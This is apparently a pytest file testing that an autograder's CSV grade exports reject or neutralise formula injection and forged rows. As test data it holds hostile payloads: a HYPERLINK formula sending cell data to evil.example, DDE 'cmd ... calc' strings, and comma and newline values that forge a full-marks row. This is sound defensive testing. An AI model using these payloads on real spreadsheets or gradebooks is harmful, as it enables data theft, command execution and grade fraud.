"""Attacks on the grade exports (a CSV is opened by a spreadsheet, and imported by an LMS),
through `python -m grader autograde` and `python -m grader export`, in one batch.

Three ways student text reaches a CSV cell: a submission folder's name (the student id), the
names and email the gradebook holds for a student (from nbgrader's student list or an LMS's
roster: `nbgrader db student import`), and the cells of a Canvas roster. The attackers use
each one to write a live formula (= + - @ tab CR LF first) or, with commas and line breaks, to
move cells or add a row of their own that gives a classmate full marks. Every attacker whose
folder the intake rejects hands in CORRECT answers: were it graded, it would score 15.

Every export is read back with the csv module and must hold exactly the gradebook's rows and
scores, and no cell that starts like a formula unless it is a number or neutralised (a single
quote in front, as OWASP recommends). The honest controls (z_control_*) are graded last.
"""

from __future__ import annotations

import csv
import json
import re

import pytest
from nbgrader.api import MissingEntry

from grader.course import Course
from grader.shown import shown
from tests.support.cli import on_course, output, terminal_problems
from tests.support.lms import CANVAS_COLUMNS

from .attacks import FULL, Attack, build

pytestmark = pytest.mark.slow

ASSIGNMENT = "soft_select"
NBGRADER_COLUMNS = ["assignment", "duedate", "timestamp", "student_id", "last_name",
                    "first_name", "email", "raw_score", "late_submission_penalty", "score",
                    "max_score"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's list, and LF
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# An nbgrader-format row giving z_control_2 (wrong answers: 0 points) full marks.
FORGED_ROW = f"{ASSIGNMENT},,2026-01-01 00:00:00,z_control_2,Two,Zed,,15.0,0.0,15.0,15.0"
# Folder names the intake must reject (each holds correct answers); none may become a student.
REJECTED = {
    "=1+1": "a formula",
    "+SUM(1;2)": "a formula starting with +",
    "-2+3": "a formula starting with -",
    "@SUM(A1)": "a formula starting with @",
    "\tTAB": "a tab first",
    "\rCR": "a carriage return first",
    "a01,15.0,forged": "commas: extra cells in nbgrader's unquoted export",
    f"a02\n{FORGED_ROW}": "a line break: a forged row in nbgrader's unquoted export",
}
NAMES = "a03_hostile_names"  # a valid id, correct answers; the gradebook's names for it hostile
HOSTILE = {"last_name": '=HYPERLINK("http://evil.example/?"&A1,"15")',
           "first_name": f"Eve\n{FORGED_ROW}",
           "email": "-2+3+cmd|' /C calc'!A0@evil.example"}
CONTROLS = {"z_control_1": "correct", "z_control_2": "wrong"}
FORMATS = ["nbgrader", "canvas", "canvas-roster", "moodle"]  # canvas-roster: --roster ROSTER
ROSTER = [  # Canvas's own cells, hostile: only the ID (Canvas's number) is left as it is
    ["@SUM(1+1)*cmd|' /C calc'!A0", "101", "+1", NAMES, "=Section"],
    ["Liddell, Alice", "102", "S0002", "z_control_1", "Section A"],
    ["-Two, Zed", "103", "\tS0003", "z_control_2", "\rSection B"],
    ["=Dropped, Dave", "104", "S0004", "dave", "-Section C"],  # in the roster, never graded
]


@pytest.fixture(scope="module")
def batch(own_class):
    mine = own_class("exports", ASSIGNMENT)
    tmp, course, released = mine.root, mine.course, mine.released
    for name in REJECTED:
        build(Attack(name, "", answers="correct"), released, mine.folder(name))
    build(Attack(NAMES, "", answers="correct"), released, mine.folder(NAMES))
    for name, answers in CONTROLS.items():
        build(Attack(name, "", answers=answers), released, mine.folder(name))

    graded = on_course(course.root, "autograde", ASSIGNMENT, "--submissions",
                       str(mine.submissions), "--cell-timeout", "30", "--notebook-timeout", "120")
    # The gradebook's names and emails, as an import of the LMS's student list writes them.
    with course.gradebook() as gb:
        gb.update_or_create_student(NAMES, **HOSTILE)
        gb.update_or_create_student("z_control_2", first_name="Zed", last_name="Two",
                                    email="z2@uni.example")
    roster = tmp / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f).writerows([CANVAS_COLUMNS, ["    Points Possible", "", "", "", ""],
                                 *ROSTER])
    formats = {"nbgrader": [], "canvas": [], "canvas-roster": ["--roster", str(roster)],
               "moodle": []}
    exports, runs = {}, {}
    for fmt, extra in formats.items():
        to = tmp / f"{fmt}.csv"
        runs[fmt] = on_course(course.root, "export", "--format", fmt.split("-")[0], "--to",
                              str(to), *extra)
        if runs[fmt].returncode == 0:
            with open(to, newline="", encoding="utf-8") as f:
                exports[fmt] = list(csv.reader(f))
    status_file = course.root / "status" / f"{ASSIGNMENT}.json"
    status = json.loads(status_file.read_text()) if status_file.exists() else {}
    return dict(course=course, graded=graded, status=status, exports=exports, runs=runs,
                truth=gradebook_truth(course))


def gradebook_truth(course: Course) -> dict:
    """What the gradebook holds: each student's names and email, and their score (less the
    late penalty, never below 0; None when nothing was submitted); the assignment's maximum."""
    with course.gradebook() as gb:
        max_score = gb.find_assignment(ASSIGNMENT).max_score
        students = {s.id: {"last_name": s.last_name or "", "first_name": s.first_name or "",
                           "email": s.email or ""} for s in gb.students}
        scores = {}
        for student in students:
            try:
                sub = gb.find_submission(ASSIGNMENT, student)
                scores[student] = max(0.0, sub.score - sub.late_submission_penalty)
            except MissingEntry:
                scores[student] = None
    return {"students": students, "scores": scores, "max_score": max_score}


def export(batch, fmt: str) -> list[list[str]]:
    """The rows of one export, read back with the csv module."""
    assert fmt in batch["exports"], f"no {fmt} export: {output(batch['runs'][fmt])}"
    return batch["exports"][fmt]


def unneutralised(cell: str) -> str:
    """A text cell as it was before the export neutralised it."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character, not a number."""
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)]


def test_the_batch_ends_and_controls_keep_their_grades(batch):
    run, status, scores = batch["graded"], batch["status"], batch["truth"]["scores"]
    assert run.returncode == 1, output(run)[-3000:]  # the rejected folders' error rows
    assert set(status) == {shown(n) for n in [*REJECTED, NAMES, *CONTROLS]}, "a row each"
    assert scores == {NAMES: FULL, "z_control_1": FULL, "z_control_2": 0.0}


@pytest.mark.parametrize("name", sorted(REJECTED), ids=repr)
def test_a_rejected_folder_is_an_error_row_and_no_student(batch, name):
    row = batch["status"][shown(name)]
    assert row["error"] and "is not a valid student id" in row["error"], row
    assert row["auto_score"] == 0
    assert name not in batch["truth"]["students"], f"{REJECTED[name]}: became a student"


def test_gradebook_students_are_the_valid_folders_alone(batch):
    assert set(batch["truth"]["students"]) == {NAMES, *CONTROLS}


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_is_written(batch, fmt):
    run = batch["runs"][fmt]
    assert run.returncode == 0, output(run)
    assert terminal_problems(run) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_cell_is_a_live_formula(batch, fmt):
    assert live_formulas(export(batch, fmt)) == []


def test_nbgrader_export_holds_exactly_the_gradebooks_rows(batch):
    rows, truth = export(batch, "nbgrader"), batch["truth"]
    assert rows[0] == NBGRADER_COLUMNS, "nbgrader's columns, for existing imports"
    found = [dict(zip(NBGRADER_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert sorted(r["student_id"] for r in found) == sorted(truth["students"]), \
        "one row per gradebook student: no row forged, none lost"
    for r in found:
        assert r["assignment"] == ASSIGNMENT
        assert float(r["score"]) == (truth["scores"][r["student_id"]] or 0.0), r
        assert float(r["max_score"]) == truth["max_score"]
        for column, value in truth["students"][r["student_id"]].items():
            assert unneutralised(r[column]) == value, (column, r)
    hostile = next(r for r in found if r["student_id"] == NAMES)
    assert hostile["last_name"] == "'" + HOSTILE["last_name"]
    assert hostile["first_name"] == HOSTILE["first_name"], "text that starts plainly stays"


def test_canvas_export_holds_exactly_the_gradebooks_rows(batch):
    rows, truth = export(batch, "canvas"), batch["truth"]
    assert rows[0] == [*CANVAS_COLUMNS, ASSIGNMENT]
    assert rows[1] == ["Points Possible", "", "", "", "", f"{truth['max_score']:g}"]
    by_login = {row[3]: row for row in rows[2:]}
    assert len(by_login) == len(rows) - 2 == len(truth["students"])
    assert set(by_login) == set(truth["students"]), "SIS Login ID: the gradebook's ids"
    for student, row in by_login.items():
        assert float(row[5]) == round(truth["scores"][student], 2), row
    assert by_login[NAMES][0] == "'" + f"{HOSTILE['last_name']}, {HOSTILE['first_name']}"


def test_canvas_export_with_a_hostile_roster(batch):
    rows, scores = export(batch, "canvas-roster"), batch["truth"]["scores"]
    assert rows[0] == [*CANVAS_COLUMNS, ASSIGNMENT]
    assert len(rows[2:]) == len(ROSTER), "one row per roster student, no more"
    for written, given in zip(rows[2:], ROSTER, strict=True):
        assert written[1] == given[1], "Canvas's ID, its first match, is never changed"
        # (the roster's cells are read stripped of spaces, tabs and line breaks at either end)
        assert [unneutralised(c) for c in written[:5]] == [c.strip() for c in given]
        login = given[3]
        expected = "" if login not in scores else f"{scores[login]:g}"
        assert written[5] == expected, (login, written)


def test_moodle_export_holds_exactly_the_gradebooks_rows(batch):
    rows, truth = export(batch, "moodle"), batch["truth"]
    assert rows[0] == ["Username", "Email address", ASSIGNMENT]
    by_user = {row[0]: row for row in rows[1:]}
    assert len(by_user) == len(rows) - 1 == len(truth["students"])
    assert set(by_user) == set(truth["students"]), "Username: the gradebook's ids, unchanged"
    for student, row in by_user.items():
        assert unneutralised(row[1]) == truth["students"][student]["email"]
        assert float(row[2]) == round(truth["scores"][student], 2), row
    assert by_user[NAMES][1] == "'" + HOSTILE["email"]
